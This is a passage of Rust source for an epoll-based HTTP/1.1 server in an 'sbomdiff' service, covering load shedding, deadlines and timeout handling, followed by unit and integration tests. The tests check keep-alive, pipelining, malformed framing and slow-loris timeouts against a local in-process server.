//!    runs, and the connection survives the rejection;
//! 3. a worker pops the task and first checks the per-request deadline:
//!    work that already waited longer than `deadline` is answered `503`
//!    without being executed (its result could not reach the client in
//!    time anyway); otherwise the handler runs behind the response cache,
//!    and cache hits reuse the entry's preserialized wire bytes;
//! 4. completions flow back over a mutex'd vector + eventfd wakeup; the
//!    reactor slots each response into its pipeline position and flushes.
//!
//! Timeout taxonomy (satellite: no more silent drops of slow clients):
//!
//! * slow or partial request (head or body) → `408`, counted in
//!   `sbomdiff_timeouts_total{phase="header"|"body"}`;
//! * idle keep-alive connection → closed silently (that is the protocol's
//!   contract between requests), counted under `phase="idle"`;
//! * queued past deadline → `503`, counted in
//!   `sbomdiff_deadline_timeouts_total` (unchanged from the thread-pool
//!   server).
//!
//! Worker count follows the same `Jobs` policy as the batch pipeline
//! (`--jobs N`, `SBOMDIFF_JOBS`, available parallelism). Shutdown is
//! graceful: close the listener, flush connections that are owed nothing,
//! give the rest a short grace period, join every thread.

use std::collections::HashSet;
use std::net::{SocketAddr, TcpListener};
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant};

use crate::api::{self, AppState, Executed};
use crate::conn::{Conn, FillOutcome, ParsedRequest, WriteBuf};
use crate::http::{ReadPhase, Request, Response};
use crate::metrics::{Endpoint, TimeoutPhase};
use crate::queue::BoundedQueue;
use crate::reactor::{
    bind_listener, set_nodelay, Event, Poller, Waker, LISTENER_TOKEN, WAKER_TOKEN,
};
use crate::respcache::ResponseCache;

/// Server configuration.
#[derive(Debug, Clone)]
pub struct ServeConfig {
    /// Port to bind on 127.0.0.1 (`0` picks an ephemeral port).
    pub port: u16,
    /// Worker threads (`0` → `Jobs` default policy).
    pub jobs: usize,
    /// Bounded queue capacity; overflow is answered 429.
    pub queue_capacity: usize,
    /// Per-request deadline measured from parse; exceeded in queue → 503.
    pub deadline: Duration,
    /// Response-cache capacity in entries.
    pub cache_capacity: usize,
    /// Default seed for requests that do not carry one.
    pub seed: u64,
    /// How long a partial request may stall (per phase: head, then body)
    /// before the connection is answered 408.
    pub header_timeout: Duration,
    /// How long a keep-alive connection may sit idle between requests
    /// before being closed.
    pub idle_timeout: Duration,
    /// Listen backlog handed to `listen(2)`.
    pub backlog: i32,
    /// Maximum unanswered pipelined requests per connection before parse
    /// backpressure kicks in.
    pub max_pipeline: usize,
}

impl Default for ServeConfig {
    fn default() -> Self {
        ServeConfig {
            port: 0,
            jobs: 0,
            queue_capacity: 128,
            deadline: Duration::from_secs(10),
            cache_capacity: 256,
            seed: 42,
            header_timeout: Duration::from_secs(5),
            idle_timeout: Duration::from_secs(10),
            backlog: 1024,
            max_pipeline: 64,
        }
    }
}

/// Grace period for connections still owed responses at shutdown.
const DRAIN_GRACE: Duration = Duration::from_secs(5);

/// A parsed request on its way to a worker.
struct Task {
    token: usize,
    generation: u64,
    seq: u64,
    request: Request,
    parsed_at: Instant,
    endpoint: Endpoint,
    close: bool,
}

/// A finished response on its way back to the reactor.
struct Completion {
    token: usize,
    generation: u64,
    seq: u64,
    buf: WriteBuf,
    close: bool,
}

/// A running server; dropping the handle shuts it down.
pub struct Server;

/// Handle to a running server.
pub struct ServerHandle {
    addr: SocketAddr,
    state: Arc<AppState>,
    queue: Arc<BoundedQueue<Task>>,
    stop: Arc<AtomicBool>,
    waker: Arc<Waker>,
    reactor: Option<std::thread::JoinHandle<()>>,
    workers: Vec<std::thread::JoinHandle<()>>,
}

impl Server {
    /// Binds `127.0.0.1:port` and starts the reactor and worker threads.
    ///
    /// # Errors
    ///
    /// Propagates socket/epoll setup errors (bind failure, mostly).
    pub fn start(config: ServeConfig) -> std::io::Result<ServerHandle> {
        let listener = bind_listener(config.port, config.backlog)?;
        let addr = listener.local_addr()?;
        let poller = Poller::new()?;
        poller.add_readable(listener.as_raw_fd(), LISTENER_TOKEN)?;
        let waker = Arc::new(Waker::new(&poller)?);
        let state = Arc::new(AppState::new(config.seed, config.cache_capacity));
        let queue = Arc::new(BoundedQueue::new(config.queue_capacity));
        let completions = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));

        let workers: Vec<_> = (0..sbomdiff_parallel::Jobs::new(config.jobs).get())
            .map(|i| {
                let state = Arc::clone(&state);
                let queue = Arc::clone(&queue);
                let completions = Arc::clone(&completions);
                let waker = Arc::clone(&waker);
                let deadline = config.deadline;
                std::thread::Builder::new()
                    .name(format!("sbomdiff-worker-{i}"))
                    .spawn(move || worker_loop(&state, &queue, &completions, &waker, deadline))
                    .expect("spawn worker")
            })
            .collect();

        let reactor = {
            let event_loop = EventLoop {
                poller,
                listener: Some(listener),
                conns: Vec::new(),
                free: Vec::new(),
                next_generation: 0,
                state: Arc::clone(&state),
                queue: Arc::clone(&queue),
                completions,
                waker: Arc::clone(&waker),
                stop: Arc::clone(&stop),
                header_timeout: config.header_timeout,
                idle_timeout: config.idle_timeout,
                max_pipeline: config.max_pipeline.max(1),
                scratch: Vec::new(),
                repump: HashSet::new(),
            };
            std::thread::Builder::new()
                .name("sbomdiff-reactor".into())
                .spawn(move || event_loop.run())
                .expect("spawn reactor")
        };

        Ok(ServerHandle {
            addr,
            state,
            queue,
            stop,
            waker,
            reactor: Some(reactor),
            workers,
        })
    }
}

fn worker_loop(
    state: &AppState,
    queue: &BoundedQueue<Task>,
    completions: &Mutex<Vec<Completion>>,
    waker: &Waker,
    deadline: Duration,
) {
    while let Some(task) = queue.pop() {
        let waited = task.parsed_at.elapsed();
        let (buf, close) = if waited > deadline {
            // The deadline gate runs at dequeue: work that already sat in
            // the queue past its deadline is not worth executing.
            state.metrics.record_timeout();
            state.metrics.record(task.endpoint, 503, waited);
            let response = Response::error(503, "deadline exceeded while queued");
            (WriteBuf::Owned(response.serialize(task.close)), task.close)
        } else {
            // Worker-pool boundary: no panic — injected or genuine — may
            // take the worker thread down (a dead worker would silently
            // shrink the pool). Handlers already degrade gracefully, so
            // this catch is a counted safety net, not a control-flow path;
            // the chaos harness asserts the counter stays at zero.
            let executed = match std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                api::execute_cached(state, &task.request, queue.len())
            })) {
                Ok(executed) => executed,
                Err(_) => {
                    state.metrics.record_worker_panic();
                    Executed::Miss(Response::error(503, "request aborted by internal fault"))
                }
            };
            state
                .metrics
                .record(task.endpoint, executed.status(), task.parsed_at.elapsed());
            let buf = match executed {
                // The zero-alloc hot path: a keep-alive cache hit writes
                // the entry's preserialized persistent-form bytes.
                Executed::Hit(entry) if !task.close => WriteBuf::Shared(Arc::clone(&entry.wire)),
                Executed::Hit(entry) => WriteBuf::Owned(entry.response.serialize(true)),
                Executed::Miss(response) => WriteBuf::Owned(response.serialize(task.close)),
            };
            (buf, task.close)
        };
        completions
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .push(Completion {
                token: task.token,
                generation: task.generation,
                seq: task.seq,
                buf,
                close,
            });
        waker.wake();
    }
}

/// The reactor: owns the poller, the listener, and every connection.
struct EventLoop {
    poller: Poller,
    listener: Option<TcpListener>,
    /// Connection slab indexed by epoll token; `None` slots are free.
    conns: Vec<Option<Conn>>,
    free: Vec<usize>,
    next_generation: u64,
    state: Arc<AppState>,
    queue: Arc<BoundedQueue<Task>>,
    completions: Arc<Mutex<Vec<Completion>>>,
    waker: Arc<Waker>,
    stop: Arc<AtomicBool>,
    header_timeout: Duration,
    idle_timeout: Duration,
    max_pipeline: usize,
    /// Reused parse-output buffer.
    scratch: Vec<ParsedRequest>,
    /// Connections whose last fill stopped at its read budget: kernel
    /// bytes may be stranded, and edge-triggered epoll will never
    /// re-announce them — the loop re-fills these itself each iteration
    /// (with a zero poll timeout while any remain).
    repump: HashSet<usize>,
}

impl EventLoop {
    fn run(mut self) {
        // The poll tick bounds timeout-detection latency; an eventfd wake
        // interrupts it immediately for completions and shutdown.
        let tick = (self.header_timeout.min(self.idle_timeout) / 4)
            .clamp(Duration::from_millis(5), Duration::from_millis(100));
        let mut events: Vec<Event> = Vec::new();
        let mut last_scan = Instant::now();
        let mut draining_since: Option<Instant> = None;
        loop {
            events.clear();
            let wait = if !self.repump.is_empty() {
                // Budget-exhausted reads are pending: poll without
                // blocking so stranded kernel bytes are consumed now,
                // while still interleaving other sockets' events.
                Duration::ZERO
            } else if draining_since.is_some() {
                tick.min(Duration::from_millis(10))
            } else {
                tick
            };
            if self.poller.wait(&mut events, Some(wait)).is_err() {
                break;
            }
            let stopping = self.stop.load(Ordering::SeqCst);
            if stopping {
                if let Some(listener) = self.listener.take() {
                    self.poller.delete(listener.as_raw_fd());
                    // Dropping closes the port: no new connections.
                }
                if draining_since.is_none() {
                    draining_since = Some(Instant::now());
                }
            }
            // Accept last: a slot freed by a teardown in this batch must
            // not be recycled while a stale event for it is still queued.
            let mut accept_ready = false;
            for &ev in &events {
                match ev.token {
                    WAKER_TOKEN => self.waker.drain(),
                    LISTENER_TOKEN => accept_ready = true,
                    token => self.conn_event(token as usize, ev),
                }
            }
            self.apply_completions();
            if accept_ready && !stopping {
                self.accept_ready();
            }
            // Re-fill connections whose read budget ran out before the
            // socket was drained — after the event batch, so one greedy
            // peer's backlog interleaves with everyone else's traffic.
            if !self.repump.is_empty() {
                let tokens: Vec<usize> = self.repump.drain().collect();
                for token in tokens {
                    self.service_read(token);
                }
            }
            let now = Instant::now();
            if now.duration_since(last_scan) >= tick {
                last_scan = now;
                self.scan_timeouts(now);
            }
            if let Some(since) = draining_since {
                let force = since.elapsed() > DRAIN_GRACE;
                for token in 0..self.conns.len() {
                    let done = match self.conns[token].as_ref() {
                        Some(conn) => force || conn.owes_nothing(),
                        None => false,
                    };
                    if done {
                        self.teardown(token);
                    }
                }
                if self.conns.iter().all(Option::is_none) {
                    break;
                }
            }
        }
    }

    fn accept_ready(&mut self) {
        loop {
            let Some(listener) = self.listener.as_ref() else {
                return;
            };
            match listener.accept() {
                Ok((stream, _peer)) => {
                    if stream.set_nonblocking(true).is_err() {
                        continue;
                    }
                    // Whole responses go out in single buffers, so Nagle
                    // only adds delayed-ACK tail latency (the 105ms max_us
                    // outlier in the pre-reactor bench).
                    set_nodelay(stream.as_raw_fd());
                    let token = self.free.pop().unwrap_or_else(|| {
                        self.conns.push(None);
                        self.conns.len() - 1
                    });
                    self.next_generation += 1;
                    let conn = Conn::new(stream, self.next_generation, Instant::now());
                    if self
                        .poller
                        .add(conn.stream.as_raw_fd(), token as u64)
                        .is_err()
                    {
                        self.free.push(token);
                        continue; // drop closes the socket
                    }
                    self.conns[token] = Some(conn);
                    // Registration reports current readiness once (ET), so
                    // data that raced ahead of the add is not lost — but
                    // only in the *next* wait. Read now for the common case
                    // of a request arriving with the connection.
                    self.conn_event(
                        token,
                        Event {
                            token: token as u64,
                            readable: true,
                            writable: false,
                            hangup: false,
                        },
                    );
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return,
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                // EMFILE/ECONNABORTED and friends: back off, keep serving.
                Err(_) => return,
            }
        }
    }

    fn conn_event(&mut self, token: usize, ev: Event) {
        let mut dead = false;
        {
            let Some(conn) = self.conns.get_mut(token).and_then(Option::as_mut) else {
                return;
            };
            if (ev.readable || ev.hangup) && conn.fill(Instant::now()) == FillOutcome::Broken {
                dead = true;
            }
            if !dead && ev.hangup && !conn.read_closed {
                // EPOLLERR/EPOLLHUP without a clean EOF: the peer is gone
                // and cannot receive a response; don't keep the slot.
                dead = true;
            }
        }
        if dead {
            self.teardown(token);
            return;
        }
        // Parse newly-buffered requests and/or flush on writability; pump
        // covers both and tears down finished connections.
        self.pump(token);
    }

    /// Parses and dispatches everything the connection has buffered, then
    /// flushes its write queue. Safe to call whenever state may have
    /// advanced; does nothing on an empty slot.
    fn pump(&mut self, token: usize) {
        let now = Instant::now();
        let mut out = std::mem::take(&mut self.scratch);
        let mut dead = false;
        if let Some(conn) = self.conns.get_mut(token).and_then(Option::as_mut) {
            let (_halt, err) = conn.extract_requests(self.max_pipeline, now, &mut out);
            for parsed in out.drain(..) {
                let endpoint = Endpoint::classify(&parsed.request.path);
                let close = !parsed.keep_alive;
                // Inline hot path: answer cacheable repeats directly from
                // the reactor with the entry's preserialized bytes, skipping
                // the queue and both thread handoffs. Only compute (misses)
                // is subject to admission control.
                if parsed.request.method == "POST" && parsed.request.path.starts_with("/v1/") {
                    let key = ResponseCache::key(&parsed.request.path, &parsed.request.body);
                    if let Some(entry) = self.state.cache.get(key) {
                        self.state
                            .metrics
                            .record(endpoint, entry.response.status, now.elapsed());
                        let buf = if close {
                            WriteBuf::Owned(entry.response.serialize(true))
                        } else {
                            WriteBuf::Shared(Arc::clone(&entry.wire))
                        };
                        conn.complete(parsed.seq, buf, close);
                        continue;
                    }
                }
                conn.inflight += 1;
                let task = Task {
                    token,
                    generation: conn.generation,
                    seq: parsed.seq,
                    request: parsed.request,
                    parsed_at: now,
                    endpoint,
                    close,
                };
                if let Err(rejected) = self.queue.push(task) {
                    // Shed load at the door: the client gets an immediate
                    // 429 in pipeline order, and the connection survives.
                    conn.inflight -= 1;
                    self.state.metrics.record_rejected();
                    self.state
                        .metrics
                        .record(rejected.endpoint, 429, rejected.parsed_at.elapsed());
                    let response = Response::error(429, "server is at capacity, retry later");
                    conn.complete(
                        rejected.seq,
                        WriteBuf::Owned(response.serialize(rejected.close)),
                        rejected.close,
                    );
                }
            }
            if let Some(err) = err {
                // Framing error: answer with the mapped status, stop
                // parsing, close once everything before it is flushed.
                let status = err.status();
                self.state
                    .metrics
                    .record(Endpoint::Other, status, now.elapsed());
                let seq = conn.begin_close_with_seq();
                let response = Response::error(status, err.message());
                conn.complete(seq, WriteBuf::Owned(response.serialize(true)), true);
            }
            dead = conn.flush().is_err() || conn.finished();
            if !dead && conn.wants_fill() {
                // Parsing made room (or a budget stopped the last fill):
                // schedule a re-fill — EPOLLET will not announce the
                // bytes already sitting in the kernel buffer.
                self.repump.insert(token);
            }
        }
        self.scratch = out;
        if dead {
            self.teardown(token);
        }
    }

    /// Re-fills a connection whose previous fill stopped at its read
    /// budget, then pumps it. Invoked outside epoll dispatch: these bytes
    /// will never produce another edge-triggered event.
    fn service_read(&mut self, token: usize) {
        let dead = {
            let Some(conn) = self.conns.get_mut(token).and_then(Option::as_mut) else {
                return;
            };
            if !conn.wants_fill() {
                return;
            }
            conn.fill(Instant::now()) == FillOutcome::Broken
        };
        if dead {
            self.teardown(token);
            return;
        }
        self.pump(token);
    }

    /// Applies worker completions: slot each response into its pipeline
    /// position, then re-pump — freed pipeline slots may unblock buffered
    /// requests that edge-triggered epoll will never re-announce.
    fn apply_completions(&mut self) {
        let drained: Vec<Completion> = {
            let mut guard = self
                .completions
                .lock()
                .unwrap_or_else(PoisonError::into_inner);
            std::mem::take(&mut guard)
        };
        for completion in drained {
            let token = completion.token;
            {
                let Some(conn) = self.conns.get_mut(token).and_then(Option::as_mut) else {
                    continue;
                };
                if conn.generation != completion.generation {
                    continue; // the slot was recycled; response has no home
                }
                conn.inflight -= 1;
                conn.complete(completion.seq, completion.buf, completion.close);
            }
            self.pump(token);
        }
    }

    /// Detects and answers timeouts: 408 for stalled partial requests,
    /// silent close (counted) for idle keep-alive connections.
    fn scan_timeouts(&mut self, now: Instant) {
        for token in 0..self.conns.len() {
            let Some(conn) = self.conns[token].as_mut() else {
                continue;
            };
            if let Some((since, phase)) = conn.partial_phase() {
                if now.duration_since(since) < self.header_timeout {
                    continue;
                }
                let timeout_phase = match phase {
                    ReadPhase::Head => TimeoutPhase::Header,
                    ReadPhase::Body => TimeoutPhase::Body,
                };
                self.state.metrics.record_timeout_phase(timeout_phase);
                self.state
                    .metrics
                    .record(Endpoint::Other, 408, now.duration_since(since));
                let seq = conn.begin_close_with_seq();
                let response = Response::error(408, "timed out waiting for the request");
                conn.complete(seq, WriteBuf::Owned(response.serialize(true)), true);
                let dead = conn.flush().is_err() || conn.finished();
                if dead {
                    self.teardown(token);
                }
            } else if conn.is_idle() && now.duration_since(conn.last_activity) >= self.idle_timeout
            {
                self.state.metrics.record_timeout_phase(TimeoutPhase::Idle);
                self.teardown(token);
            }
        }
    }

    fn teardown(&mut self, token: usize) {
        if let Some(conn) = self.conns.get_mut(token).and_then(Option::take) {
            self.poller.delete(conn.stream.as_raw_fd());
            self.free.push(token);
            // A recycled slot must not inherit the old conn's re-fill.
            self.repump.remove(&token);
            // Dropping the Conn closes the socket.
        }
    }
}

impl ServerHandle {
    /// The bound address (useful with `port: 0`).
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// The shared state (metrics/cache introspection for tests and loadgen).
    pub fn state(&self) -> &AppState {
        &self.state
    }

    /// Graceful shutdown: close the listener, drain connections that are
    /// owed responses (bounded grace), join all threads. Idempotent.
    pub fn shutdown(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        self.waker.wake();
        if let Some(reactor) = self.reactor.take() {
            let _ = reactor.join();
        }
        self.queue.close();
        for worker in self.workers.drain(..) {
            let _ = worker.join();
        }
    }
}

impl Drop for ServerHandle {
    fn drop(&mut self) {
        self.shutdown();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::{Read, Write};
    use std::net::TcpStream;

    /// One-shot request helper; sends `Connection: close` so
    /// `read_to_string` terminates when the server closes.
    fn http_request(addr: SocketAddr, method: &str, path: &str, body: &str) -> (u16, String) {
        let mut stream = TcpStream::connect(addr).expect("connect");
        let raw = format!(
            "{method} {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        stream.write_all(raw.as_bytes()).unwrap();
        let mut text = String::new();
        stream.read_to_string(&mut text).unwrap();
        parse_response(&text)
    }

    fn parse_response(text: &str) -> (u16, String) {
        let status: u16 = text
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse().ok())
            .expect("status line");
        let body = text
            .split_once("\r\n\r\n")
            .map(|(_, b)| b.to_string())
            .unwrap_or_default();
        (status, body)
    }

    /// Reads one Content-Length-framed response off a keep-alive stream.
    fn read_framed(stream: &mut TcpStream) -> (u16, String) {
        let mut head = Vec::new();
        let mut byte = [0u8; 1];
        while !head.ends_with(b"\r\n\r\n") {
            stream.read_exact(&mut byte).expect("response head");
            head.push(byte[0]);
        }
        let head_text = String::from_utf8(head).unwrap();
        let status: u16 = head_text
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse().ok())
            .expect("status line");
        let length: usize = head_text
            .lines()
            .find_map(|l| {
                let (name, value) = l.split_once(':')?;
                name.eq_ignore_ascii_case("content-length")
                    .then(|| value.trim().parse().ok())?
            })
            .expect("content-length");
        let mut body = vec![0u8; length];
        stream.read_exact(&mut body).expect("response body");
        (status, String::from_utf8(body).unwrap())
    }

    #[test]
    fn serves_healthz_and_metrics() {
        let mut handle = Server::start(ServeConfig::default()).unwrap();
        let (status, body) = http_request(handle.addr(), "GET", "/healthz", "");
        assert_eq!(status, 200);
        assert!(body.contains("\"ok\""));
        let (status, body) = http_request(handle.addr(), "GET", "/metrics", "");
        assert_eq!(status, 200);
        assert!(body.contains("sbomdiff_requests_total"));
        assert!(body.contains("sbomdiff_timeouts_total"));
        handle.shutdown();
    }

    #[test]
    fn keep_alive_serves_sequential_requests_on_one_connection() {
        let mut handle = Server::start(ServeConfig::default()).unwrap();
        let mut stream = TcpStream::connect(handle.addr()).unwrap();
        for _ in 0..3 {
            stream
                .write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
                .unwrap();
            let (status, body) = read_framed(&mut stream);
            assert_eq!(status, 200);
            assert!(body.contains("\"ok\""));
        }
        handle.shutdown();
    }

    #[test]
    fn crlf_padding_between_pipelined_requests_is_ignored() {
        // RFC 9112 §2.2: empty-line padding before a request line must not
        // 400 the connection.
        let mut handle = Server::start(ServeConfig::default()).unwrap();
        let mut stream = TcpStream::connect(handle.addr()).unwrap();
        stream
            .write_all(
                b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
            )
            .unwrap();
        for _ in 0..2 {
            let (status, body) = read_framed(&mut stream);
            assert_eq!(status, 200);
            assert!(body.contains("\"ok\""));
        }
        handle.shutdown();
    }

    #[test]
    fn large_single_burst_body_is_served_not_timed_out() {
        // A legal body arriving in one burst larger than fill's read
        // budget must be served: stranded kernel-buffer bytes generate no
        // further edge-triggered event, so the reactor re-fills on its
        // own instead of stalling into a 408.
        let mut handle = Server::start(ServeConfig {
            header_timeout: Duration::from_millis(500),
            ..ServeConfig::default()
        })
        .unwrap();
        let body = format!(
            "{{\"files\":{{\"requirements.txt\":\"# {}\\nnumpy==1.19.2\\n\"}}}}",
            "x".repeat(400 * 1024)
        );
        let (status, _) = http_request(handle.addr(), "POST", "/v1/analyze", &body);
        assert_eq!(status, 200);
        assert_eq!(
            handle.state().metrics.timeouts_phase(TimeoutPhase::Body),
            0,
            "a fully-delivered body must never be counted as a body stall"
        );
        handle.shutdown();
    }

    #[test]
    fn cache_serves_identical_bodies() {
        let mut handle = Server::start(ServeConfig::default()).unwrap();
        let payload = r#"{"files":{"requirements.txt":"numpy==1.19.2\n"}}"#;
        let (s1, b1) = http_request(handle.addr(), "POST", "/v1/analyze", payload);
        let (s2, b2) = http_request(handle.addr(), "POST", "/v1/analyze", payload);
        assert_eq!((s1, s2), (200, 200));
        assert_eq!(b1, b2);
        assert!(handle.state().cache.hits() >= 1);
        handle.shutdown();
    }

    #[test]
    fn zero_deadline_times_out_queued_work() {
        let mut handle = Server::start(ServeConfig {
            deadline: Duration::ZERO,
            ..ServeConfig::default()
        })
        .unwrap();
        let (status, _) = http_request(handle.addr(), "GET", "/healthz", "");
        assert_eq!(status, 503);
        assert!(handle.state().metrics.timeouts() >= 1);
        handle.shutdown();
    }

    #[test]
    fn stalled_body_answers_408_and_counts_the_phase() {
        // A client that sends its head but trickles the body must get 408
        // (not a silent drop) once header_timeout expires, attributed to
        // the body phase.
        let mut handle = Server::start(ServeConfig {
            header_timeout: Duration::from_millis(100),
            ..ServeConfig::default()
        })
        .unwrap();
        let mut stream = TcpStream::connect(handle.addr()).unwrap();
        stream
            .write_all(b"POST /v1/diff HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\n\r\nab")
            .unwrap();
        let mut text = String::new();
        stream.read_to_string(&mut text).unwrap();
        assert!(text.starts_with("HTTP/1.1 408 "), "{text}");
        assert!(handle.state().metrics.timeouts_phase(TimeoutPhase::Body) >= 1);
        handle.shutdown();
    }

    #[test]
    fn idle_keep_alive_connection_is_reaped() {
        let mut handle = Server::start(ServeConfig {
            idle_timeout: Duration::from_millis(100),
            ..ServeConfig::default()
        })
        .unwrap();
        let mut stream = TcpStream::connect(handle.addr()).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        // Idle close between requests is silent by contract: EOF, no bytes.
        let mut buf = [0u8; 16];
        assert!(matches!(stream.read(&mut buf), Ok(0)));
        assert!(handle.state().metrics.timeouts_phase(TimeoutPhase::Idle) >= 1);
        handle.shutdown();
    }

    #[test]
    fn malformed_request_line_is_400_not_drop() {
        let mut handle = Server::start(ServeConfig::default()).unwrap();
        let mut stream = TcpStream::connect(handle.addr()).unwrap();
        stream.write_all(b"BOGUS\r\n\r\n").unwrap();
        let mut text = String::new();
        stream.read_to_string(&mut text).unwrap();
        assert!(text.starts_with("HTTP/1.1 400 "), "{text}");
        handle.shutdown();
    }

    #[test]
    fn shutdown_closes_the_port() {
        let mut handle = Server::start(ServeConfig::default()).unwrap();
        let addr = handle.addr();
        handle.shutdown();
        // After shutdown the listener is gone; a fresh connection must not
        // be answered (connect may succeed into a lingering backlog, but
        // no response will ever come — use a short read timeout).
        if let Ok(stream) = TcpStream::connect(addr) {
            let mut stream = stream;
            stream
                .set_read_timeout(Some(Duration::from_millis(200)))
                .unwrap();
            stream.write_all(b"GET /healthz HTTP/1.1\r\n\r\n").unwrap();
            let mut buf = [0u8; 16];
            assert!(matches!(stream.read(&mut buf), Ok(0) | Err(_)));
        }
    }
}

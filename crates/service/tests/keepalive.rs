//! Integration tests for the reactor's HTTP/1.1 connection handling:
//! keep-alive, pipelining, adversarial framing, and timeout behavior, all
//! driven over real sockets against an in-process server.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use sbomdiff_service::metrics::TimeoutPhase;
use sbomdiff_service::server::{ServeConfig, Server, ServerHandle};

fn start(config: ServeConfig) -> ServerHandle {
    Server::start(config).expect("server starts")
}

fn connect(addr: SocketAddr) -> TcpStream {
    let stream = TcpStream::connect(addr).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .expect("read timeout");
    stream
}

/// Reads one `Content-Length`-framed response; returns (status, head, body).
fn read_framed(stream: &mut TcpStream) -> (u16, String, String) {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        stream.read_exact(&mut byte).expect("response head");
        head.push(byte[0]);
    }
    let head = String::from_utf8(head).expect("utf8 head");
    let status: u16 = head
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .expect("status line");
    let length: usize = head
        .lines()
        .find_map(|line| {
            let (name, value) = line.split_once(':')?;
            name.eq_ignore_ascii_case("content-length")
                .then(|| value.trim().parse().ok())?
        })
        .expect("content-length header");
    let mut body = vec![0u8; length];
    stream.read_exact(&mut body).expect("response body");
    (status, head, String::from_utf8(body).expect("utf8 body"))
}

fn post(path: &str, body: &str) -> String {
    format!(
        "POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

#[test]
fn request_split_across_tcp_segments_is_reassembled() {
    let mut handle = start(ServeConfig::default());
    let mut stream = connect(handle.addr());
    let raw = post(
        "/v1/analyze",
        r#"{"files":{"requirements.txt":"numpy==1.19.2\n"}}"#,
    );
    // Trickle the request a few bytes at a time across many segments; the
    // incremental parser must reassemble it exactly.
    for chunk in raw.as_bytes().chunks(7) {
        stream.write_all(chunk).unwrap();
        stream.flush().unwrap();
        std::thread::sleep(Duration::from_millis(2));
    }
    let (status, _, body) = read_framed(&mut stream);
    assert_eq!(status, 200, "{body}");
    handle.shutdown();
}

#[test]
fn pipelined_requests_in_one_write_answer_in_order() {
    let mut handle = start(ServeConfig::default());
    let mut stream = connect(handle.addr());
    // Three requests in a single TCP segment; responses must come back in
    // request order, distinguishable by body.
    let burst = "GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n\
                 GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n\
                 GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n";
    stream.write_all(burst.as_bytes()).unwrap();
    let (s1, _, b1) = read_framed(&mut stream);
    let (s2, _, b2) = read_framed(&mut stream);
    let (s3, _, b3) = read_framed(&mut stream);
    assert_eq!((s1, s2, s3), (200, 200, 200));
    assert!(b1.contains("\"ok\""), "{b1}");
    assert!(b2.contains("sbomdiff_requests_total"), "{b2}");
    assert!(b3.contains("\"ok\""), "{b3}");
    handle.shutdown();
}

#[test]
fn zero_length_body_is_a_complete_request() {
    let mut handle = start(ServeConfig::default());
    let mut stream = connect(handle.addr());
    // Content-Length: 0 frames an empty body; the handler rejects the
    // empty JSON (400) but the connection survives — the next request on
    // the same socket is served normally.
    stream.write_all(post("/v1/diff", "").as_bytes()).unwrap();
    let (status, _, _) = read_framed(&mut stream);
    assert_eq!(status, 400);
    stream
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
        .unwrap();
    let (status, _, body) = read_framed(&mut stream);
    assert_eq!(status, 200, "{body}");
    handle.shutdown();
}

#[test]
fn trailing_garbage_after_framed_body_is_rejected_not_ignored() {
    let mut handle = start(ServeConfig::default());
    let mut stream = connect(handle.addr());
    let mut raw = post(
        "/v1/analyze",
        r#"{"files":{"requirements.txt":"numpy==1.19.2\n"}}"#,
    );
    raw.push_str("\0\0garbage that is not an http request\r\n\r\n");
    stream.write_all(raw.as_bytes()).unwrap();
    // The framed request is answered...
    let (status, _, _) = read_framed(&mut stream);
    assert_eq!(status, 200);
    // ...and the garbage is a framing error: 400, then close (EOF).
    let (status, head, _) = read_framed(&mut stream);
    assert_eq!(status, 400);
    assert!(head.to_ascii_lowercase().contains("connection: close"));
    let mut rest = Vec::new();
    stream.read_to_end(&mut rest).unwrap();
    assert!(rest.is_empty());
    handle.shutdown();
}

#[test]
fn half_close_mid_request_gets_408_not_silent_drop() {
    let mut handle = start(ServeConfig {
        header_timeout: Duration::from_millis(100),
        ..ServeConfig::default()
    });
    let mut stream = connect(handle.addr());
    // Head promises a body that never comes, then the client half-closes
    // its write side. The read side stays open: the server must still
    // deliver the 408 there instead of dropping the connection.
    stream
        .write_all(b"POST /v1/diff HTTP/1.1\r\nHost: localhost\r\nContent-Length: 64\r\n\r\n")
        .unwrap();
    stream.shutdown(std::net::Shutdown::Write).unwrap();
    let mut text = String::new();
    stream.read_to_string(&mut text).unwrap();
    assert!(text.starts_with("HTTP/1.1 408 "), "{text}");
    assert!(
        handle.state().metrics.timeouts_phase(TimeoutPhase::Body) >= 1,
        "body-phase timeout must be counted"
    );
    handle.shutdown();
}

#[test]
fn slow_loris_header_times_out_with_408_and_counted_phase() {
    let mut handle = start(ServeConfig {
        header_timeout: Duration::from_millis(100),
        ..ServeConfig::default()
    });
    let mut stream = connect(handle.addr());
    // Classic slow loris: drip header bytes and never finish the head.
    stream.write_all(b"GET /healthz HT").unwrap();
    let mut text = String::new();
    stream.read_to_string(&mut text).unwrap();
